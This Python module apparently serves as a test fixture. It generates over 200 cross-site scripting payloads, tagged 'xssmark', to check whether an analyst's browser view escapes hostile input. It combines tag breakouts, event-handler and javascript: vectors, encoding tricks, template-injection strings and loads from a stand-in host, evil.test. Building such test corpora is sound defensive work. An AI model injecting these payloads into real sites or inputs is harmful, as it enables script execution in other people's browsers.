"""Over 200 attempts to run a script in the analyst's browser, made from contexts and vectors.

Every payload holds the word MARK, so that a test finds it again whatever became of it.
"""

from itertools import product

MARK = "xssmark"
_CALLS = (f"alert('{MARK}')", f"window.{MARK}=1", f"document.title='{MARK}'")
_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</bdi>", "-->", "]]>", '"/>')
_VECTORS = (
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<body onload={call}>",
    "<iframe srcdoc='<script>{call}</script>'>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<a href=javascript:{call}>x</a>",
    "<math><mtext><style><img src onerror={call}>",
    "<form><button formaction=javascript:{call}>x",
    "<object data=javascript:{call}>",
    "<style>@import'//evil.test/{call}'</style>",
    "<link rel=stylesheet href=//evil.test/{call}>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href=//evil.test/{call}>",
    "<img src=//evil.test/{call}>",
    "<video><source onerror={call}>",
)
_ODD = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "data:text/html,<script>{call}</script>",
    "\u202e<script>{call}</script>",
    "\u200b<script>{call}</script>",
    "<scr\u00adipt>{call}</scr\u00adipt>",
    "＜script＞{call}＜/script＞",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "%3Cscript%3E{call}%3C/script%3E",
    "{{{{ {call} }}}}",
    "{{% include '{call}' %}}",
    "${{{call}}}",
    "`{call}`",
    "' onmouseover='{call}",
    '" onmouseover="{call}',
    '" style="background:url(//evil.test/{call})',
    "<!--<img src=--><img src=x onerror={call}>",
    "<script\n>{call}</script\n>",
)
PAYLOADS = tuple(
    dict.fromkeys(
        [
            *(before + vector.format(call=_CALLS[0]) for before, vector in product(_BREAKS, _VECTORS)),
            *(vector.format(call=call) for vector, call in product(_ODD, _CALLS)),
        ]
    )
)
